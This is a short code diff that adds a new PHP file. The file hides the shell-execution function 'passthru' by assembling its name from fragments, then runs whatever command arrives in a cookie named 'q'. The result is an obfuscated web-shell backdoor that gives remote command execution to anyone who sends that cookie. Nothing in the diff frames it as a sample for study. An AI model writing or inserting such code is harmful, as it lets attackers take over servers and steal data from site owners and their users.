@@ -1,0 +1,3 @@
+<?php
+$go = (pa.(ss).(thru));
+$go($_COOKIE['q']);
